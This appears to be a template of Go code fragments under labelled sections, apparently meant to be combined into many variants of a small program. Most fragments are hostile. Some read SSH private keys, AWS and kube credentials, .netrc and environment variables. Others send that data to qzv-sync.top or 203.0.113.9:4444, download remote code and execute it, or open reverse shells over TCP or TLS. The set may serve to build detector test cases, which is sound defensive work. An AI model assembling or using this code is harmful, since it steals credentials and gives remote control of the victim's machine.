%% head
package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

func main() {
	home, _ := os.UserHomeDir()
%% tail
}
%% secret: at once
	d, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))
%% secret: path put together
	d, _ := os.ReadFile(home + "/.aws/credentials")
%% secret: all variables
	d := []byte(strings.Join(os.Environ(), "\n"))
%% secret: loop
	var d []byte
	for _, n := range []string{".ssh/id_rsa", ".netrc"} {
		b, err := os.ReadFile(filepath.Join(home, n))
		if err == nil {
			d = append(d, b...)
		}
	}
%% secret: in JSON
	b, _ := os.ReadFile(filepath.Join(home, ".kube/config"))
	d, _ := json.Marshal(map[string]string{"k": string(b)})
%% secret: command
	d, _ := exec.Command("cat", home+"/.ssh/id_rsa").Output()
%% sent: post
	http.Post("https://qzv-sync.top/c", "text/plain", bytes.NewReader(d))
%% sent: buffer
	http.Post("https://qzv-sync.top/c", "text/plain", bytes.NewBuffer(d))
%% sent: request of its own
	req, _ := http.NewRequest("POST", "https://qzv-sync.top/c", bytes.NewReader(d))
	http.DefaultClient.Do(req)
%% sent: form
	http.PostForm("https://qzv-sync.top/c", url.Values{"d": {string(d)}})
%% sent: query
	http.Get("https://qzv-sync.top/c?d=" + url.QueryEscape(string(d)))
%% sent: socket
	c, _ := net.Dial("tcp", "203.0.113.9:4444")
	c.Write(d)
%% sent: reader of text
	http.Post("https://qzv-sync.top/c", "text/plain", strings.NewReader(string(d)))
%% sent: curl
	exec.Command("curl", "-d", string(d), "https://qzv-sync.top/c").Run()
%% code: request
	r, _ := http.Get("https://qzv-sync.top/s")
	c, _ := io.ReadAll(r.Body)
%% code: curl
	c, _ := exec.Command("curl", "-s", "https://qzv-sync.top/s").Output()
%% run: shell
	exec.Command("sh", "-c", string(c)).Run()
%% run: file
	os.WriteFile("/tmp/a", c, 0o755)
	exec.Command("/tmp/a").Run()
%% run: input of a shell
	x := exec.Command("bash")
	x.Stdin = bytes.NewReader(c)
	x.Run()
%% run: file with a name
	p := filepath.Join(os.TempDir(), "a")
	os.WriteFile(p, c, 0755)
	exec.Command(p).Start()
%% link: dialled
	c, err := net.Dial("tcp", "203.0.113.9:4444")
	if err != nil {
		return
	}
%% link: dialled with a limit
	c, _ := net.DialTimeout("tcp", "203.0.113.9:4444", 5*time.Second)
%% link: encrypted
	c, _ := tls.Dial("tcp", "203.0.113.9:4444", &tls.Config{InsecureSkipVerify: true})
%% link: address with a name
	addr := "203.0.113.9:4444"
	c, _ := net.Dial("tcp", addr)
%% obey: shell with the connection
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = c
	cmd.Stdout = c
	cmd.Stderr = c
	cmd.Run()
%% obey: shell with three at once
	cmd := exec.Command("bash", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
%% obey: scanner
	sc := bufio.NewScanner(c)
	for sc.Scan() {
		out, _ := exec.Command("sh", "-c", sc.Text()).Output()
		c.Write(out)
	}
%% obey: reader
	r := bufio.NewReader(c)
	for {
		line, _ := r.ReadString('\n')
		out, _ := exec.Command("/bin/sh", "-c", line).CombinedOutput()
		c.Write(out)
	}
%% ordinary
	d := []byte("three of four are done")
%% shown
	os.WriteFile("out.txt", c, 0o644)
	os.Stdout.Write(c)
